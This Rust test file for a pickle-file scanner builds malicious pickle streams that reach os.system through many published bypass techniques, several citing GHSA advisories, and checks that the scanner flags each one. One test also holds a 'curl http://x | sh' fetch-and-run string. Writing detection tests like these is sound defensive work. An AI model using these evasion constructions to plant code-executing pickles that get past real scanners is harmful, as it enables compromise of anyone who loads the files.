//! Each published way past a scanner that concerns the pickle machine.

use caiso_core::Severity;
use caiso_pickle::{Catalog, Limits, analyse, judge};

use crate::assemble::{bytes, global, join, list, reduce, stream, text, tuple};

fn worst(pickle: &[u8]) -> Option<(Severity, String)> {
    judge(&analyse(pickle, &Limits::default()), Catalog::embedded())
        .into_iter()
        .map(|concern| (concern.severity, concern.global))
        .max()
}

/// The pickle is at least high because of this global.
#[track_caller]
fn caught(pickle: &[u8], global: &str) {
    let analysis = analyse(pickle, &Limits::default());
    let concerns = judge(&analysis, Catalog::embedded());
    assert!(
        concerns
            .iter()
            .any(|concern| concern.severity >= Severity::High && concern.global == global),
        "{global}: {concerns:#?}\n{analysis:#?}"
    );
}

fn system() -> Vec<u8> {
    global("os", "system")
}

fn echo() -> Vec<Vec<u8>> {
    vec![text("echo pwned")]
}

#[test]
fn plain_calls_of_every_kind() {
    caught(&stream(&reduce(&system(), &echo())), "os.system");
    caught(b"cposix\nsystem\n(S'echo pwned'\ntR.", "posix.system");
    caught(b"(S'echo pwned'\nios\nsystem\n.", "os.system");
    caught(b"(cos\nsystem\nS'echo pwned'\no.", "os.system");
    caught(
        &stream(b"\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x04echo\x94\x85\x94R\x94"),
        "os.system",
    );
    caught(&stream(&join(&[&system(), &tuple(&echo()), b"\x81"])), "os.system");
    caught(&stream(&join(&[&system(), &tuple(&echo()), b"}\x92"])), "os.system");
}

/// GHSA-mxhj-88fx-4pcv: the result is popped and the value is harmless.
#[test]
fn popped_results() {
    caught(&stream(b"(cos\nsystem\nS'echo pwned'\no0N"), "os.system");
    caught(&stream(&join(&[&reduce(&system(), &echo()), b"0]"])), "os.system");
    caught(&stream(&join(&[b"(", &reduce(&system(), &echo()), b"1]"])), "os.system");
}

/// GHSA-9gvj-pp9x-gcfr: the operands of `STACK_GLOBAL` come from the memo or from under other values.
#[test]
fn operands_of_stack_global() {
    caught(
        &stream(b"\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93\x8c\x04echo\x85R"),
        "os.system",
    );
    caught(&stream(b"\x8c\x02os\x8c\x06systemN0}0\x93\x8c\x04echo\x85R"), "os.system");
    caught(
        &stream(b"X\x02\x00\x00\x00osq\xc8T\x06\x00\x00\x00system\x93\x8c\x04echo\x85R"),
        "os.system",
    );
    caught(&stream(b"Vo\\u0073\nVsystem\n\x93\x8c\x04echo\x85R"), "os.system");
}

/// GHSA-vvpj-8cmc-gx39, GHSA-955r-x9j8-7rhh, GHSA-46h3-79wf-xr6c, GHSA-84r2-jw7c-4r5q.
#[test]
fn resolvers() {
    let resolve = reduce(&global("pkgutil", "resolve_name"), &[text("os:system")]);
    caught(&stream(&reduce(&resolve, &echo())), "os.system");
    let locate = reduce(&global("pydoc", "locate"), &[text("os.system")]);
    caught(&stream(&reduce(&locate, &echo())), "os.system");
    for import in [global("importlib", "import_module"), global("builtins", "__import__")] {
        let module = reduce(&import, &[text("os")]);
        let getter = reduce(&global("_operator", "attrgetter"), &[text("system")]);
        let attribute = reduce(&getter, std::slice::from_ref(&module));
        caught(&stream(&reduce(&attribute, &echo())), "os.system");
        let caller =
            reduce(&global("_operator", "methodcaller"), &[text("system"), text("echo pwned")]);
        caught(&stream(&reduce(&caller, std::slice::from_ref(&module))), "os.system");
        let attribute = reduce(&global("builtins", "getattr"), &[module, text("system")]);
        caught(&stream(&reduce(&attribute, &echo())), "os.system");
    }
}

#[test]
fn wrappers() {
    let partial = reduce(&global("functools", "partial"), &[system(), text("echo pwned")]);
    caught(&stream(&reduce(&partial, &[])), "os.system");
    caught(&stream(&reduce(&global("builtins", "map"), &[system(), list(&echo())])), "os.system");
    caught(
        &stream(&reduce(&global("itertools", "starmap"), &[system(), list(&[tuple(&echo())])])),
        "os.system",
    );
    let module = reduce(&global("importlib", "import_module"), &[text("os")]);
    let reduced = reduce(
        &global("functools", "reduce"),
        &[global("builtins", "getattr"), list(&[text("system")]), module],
    );
    caught(&stream(&reduce(&reduced, &echo())), "os.system");
    let item = reduce(&global("_operator", "itemgetter"), &[b"K\x01".to_vec()]);
    let picked = reduce(&item, &[list(&[b"N".to_vec(), system()])]);
    caught(&stream(&reduce(&picked, &echo())), "os.system");
    let modules = reduce(&global("operator", "getitem"), &[global("sys", "modules"), text("os")]);
    let attribute = reduce(&global("builtins", "getattr"), &[modules, text("system")]);
    caught(&stream(&reduce(&attribute, &echo())), "os.system");
}

#[test]
fn computed_names() {
    let join_parts = reduce(&global("operator", "add"), &[text("o"), text("s")]);
    let module = reduce(&global("importlib", "import_module"), &[join_parts]);
    let attribute = reduce(&global("builtins", "getattr"), &[module, text("system")]);
    caught(&stream(&reduce(&attribute, &echo())), "os.system");
    let rot = reduce(&global("codecs", "decode"), &[text("flfgrz"), text("rot13")]);
    let named = join(&[&text("os"), &rot, b"\x93"]);
    caught(&stream(&reduce(&named, &echo())), "os.system");
    let decoded = reduce(&global("base64", "b64decode"), &[text("c3lzdGVt")]);
    let decoded = reduce(&global("codecs", "decode"), &[decoded]);
    caught(&stream(&reduce(&join(&[&text("os"), &decoded, b"\x93"]), &echo())), "os.system");
    let method = reduce(&global("builtins", "getattr"), &[text(""), text("join")]);
    let joined = reduce(&method, &[list(&[text("sys"), text("tem")])]);
    caught(&stream(&reduce(&join(&[&text("os"), &joined, b"\x93"]), &echo())), "os.system");
    // What cannot be computed is no better.
    let unknown = reduce(&global("numpy", "loadtxt"), &[text("x")]);
    let named = join(&[&text("os"), &unknown, b"\x93"]);
    assert!(worst(&stream(&reduce(&named, &echo()))).unwrap().0 >= Severity::High);
    let attribute = reduce(&global("builtins", "getattr"), &[global("os", "path"), unknown]);
    caught(&stream(&reduce(&attribute, &echo())), "builtins.getattr");
}

/// GHSA-5j3x-jp52-966f: a dotted name crosses into another module.
#[test]
fn dotted_names() {
    let dotted = join(&[&text("logging"), &text("os.system"), b"\x93"]);
    caught(&stream(&reduce(&dotted, &echo())), "logging.os.system");
}

#[test]
fn extension_codes() {
    let add = reduce(
        &global("copyreg", "add_extension"),
        &[text("os"), text("system"), b"K\x07".to_vec()],
    );
    caught(&stream(&join(&[&add, b"0", &reduce(b"\x82\x07", &echo())])), "os.system");
    let pair = tuple(&[text("os"), text("system")]);
    let set = join(&[&global("copyreg", "_inverted_registry"), b"M\x00\x01", &pair, b"s0"]);
    caught(&stream(&join(&[&set, &reduce(b"\x83\x00\x01", &echo())])), "os.system");
}

/// An attribute set by `BUILD` is called by a later instruction.
#[test]
fn methods_set_by_build() {
    for (key, then) in [
        ("__setstate__", join(&[&text("echo pwned"), b"b"])),
        ("append", join(&[&text("echo pwned"), b"a"])),
        ("add", join(&[b"(", &text("echo pwned"), b"\x90"])),
    ] {
        let object =
            join(&[&global("collections", "Counter"), b")\x81}", &text(key), &system(), b"sb"]);
        let pickle = stream(&join(&[&object, &then]));
        let concerns = judge(&analyse(&pickle, &Limits::default()), Catalog::embedded());
        assert!(
            concerns.iter().any(|concern| concern.severity == Severity::Critical
                && concern.message.starts_with("calls `os.system(")),
            "{key}: {concerns:#?}"
        );
    }
}

/// modelscan issue 330 and its kind: the state goes to a class or module, not to an instance.
#[test]
fn build_on_a_global() {
    let build = join(&[&global("numpy", "ndarray"), b"}", &text("__reduce__"), b"Nsb"]);
    caught(&stream(&build), "numpy.ndarray");
}

#[test]
fn nested_loads() {
    let inner = stream(&reduce(&system(), &echo()));
    for loader in [("pickle", "loads"), ("_pickle", "loads"), ("torch.storage", "_load_from_bytes")]
    {
        let outer = reduce(&global(loader.0, loader.1), &[bytes(&inner)]);
        caught(&stream(&outer), "os.system");
    }
    let io = reduce(&global("_io", "BytesIO"), &[bytes(&inner)]);
    caught(&stream(&reduce(&global("pickle", "load"), &[io])), "os.system");
    let hex: String = inner.iter().map(|byte| format!("{byte:02x}")).collect();
    let unhex = reduce(&global("binascii", "unhexlify"), &[text(&hex)]);
    caught(&stream(&reduce(&global("pickle", "loads"), &[unhex])), "os.system");
}

/// GHSA-97f8-7cmv-76j2: the magic number of a legacy torch file is computed.
#[test]
fn computed_magic_number() {
    let magic = reduce(&global("builtins", "eval"), &[text("0x1950a86a20f9469cfc6c")]);
    caught(&stream(&magic), "builtins.eval");
}

#[test]
fn allowed_globals_are_not_concerns() {
    let ordered = join(&[&global("collections", "OrderedDict"), b")R"]);
    assert_eq!(worst(&stream(&ordered)), None);
    assert_eq!(worst(&stream(b"}\x8c\x01aK\x01s")), None);
    // Getters are made of constants, and reach nothing before they are called.
    let getter = reduce(&global("operator", "itemgetter"), &[text("text")]);
    assert!(worst(&stream(&getter)).is_none_or(|(severity, _)| severity <= Severity::Low));
}

#[test]
fn unknown_callables_are_at_least_medium() {
    let call = reduce(&global("some_package.tools", "helper"), &[text("weights")]);
    assert_eq!(worst(&stream(&call)).unwrap().0, Severity::Medium);
    let call = reduce(&global("some_package.tools", "helper"), &[text("curl http://x | sh")]);
    caught(&stream(&call), "some_package.tools.helper");
    assert_eq!(worst(&stream(&global("some_package.tools", "helper"))).unwrap().0, Severity::Low);
}

/// A tensor pickled alone holds a second file, which is judged by what it does.
#[test]
fn tensors_pickled_alone() {
    let storage = global("torch.storage", "_load_from_bytes");
    let magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00.";
    assert_eq!(worst(&stream(&reduce(&storage, &[bytes(magic)]))).unwrap().0, Severity::Low);
    // What cannot be looked into is not trusted.
    for other in [bytes(b"PK\x03\x04"), reduce(&global("zlib", "decompress"), &[bytes(b"x")])] {
        caught(&stream(&reduce(&storage, &[other])), "torch.storage._load_from_bytes");
    }
}
